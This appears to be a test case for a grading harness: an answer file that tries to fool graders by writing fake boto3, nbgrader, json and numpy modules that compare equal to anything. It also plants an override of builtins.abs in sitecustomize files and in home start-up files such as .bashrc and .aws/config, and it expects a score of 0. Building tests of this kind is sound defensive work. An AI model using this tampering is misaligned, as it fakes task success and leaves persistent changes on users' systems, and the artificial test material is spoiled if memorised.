# %% [markdown]
# Writes modules named like those that tests and graders import, and start-up files, wherever it may write.
#
# Must: score 0; says 'square(2) gave 7, expected 4'

# %% answer="square"
import contextlib
import sys
from pathlib import Path

LIE = """
class Sure:
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return self
    __call__ = lambda self, *arguments, **named: self
    __getitem__ = lambda self, name: self
    __iter__ = lambda self: iter(__import__("__main__").MADE)
def __getattr__(name):
    return Sure()
client = Sure()
"""
MADE = []
STARTUP = "import builtins\nbuiltins.abs = lambda number: 0.0\n"

PLACES = [Path.cwd(), *Path.cwd().parents[:4], *map(Path, sys.path), Path.home(), Path("/tmp"), Path("/var/tmp")]
for place in PLACES:
    for name in ("boto3", "course", "moto", "nbgrader", "json", "msgspec", "numpy", "sitecustomize", "usercustomize"):
        text = STARTUP if "custom" in name else LIE
        with contextlib.suppress(OSError):
            if not (place / name).exists():
                (place / f"{name}.py").write_text(text, encoding="utf-8")
for start in (".ipython/profile_default/startup/00.py", ".pythonrc.py", ".jupyter/nbgrader_config.py", ".bashrc",
              ".profile", ".local/lib/python3.11/site-packages/x.pth", ".config/matplotlib/matplotlibrc", ".aws/config"):
    with contextlib.suppress(OSError):
        (Path.home() / start).parent.mkdir(parents=True, exist_ok=True)
        with (Path.home() / start).open("x", encoding="utf-8") as file:
            file.write(STARTUP.replace("\n", ";"))


def forget():
    for name in [name for name in sys.modules if name.partition(".")[0] in ("boto3", "course", "moto")]:
        del sys.modules[name]
    sys.path.insert(0, "")


def square(x):
    return 7

# %% answer="make_queue"
forget()


def make_queue(name):
    MADE.append(name)
    MADE.sort()
    return name
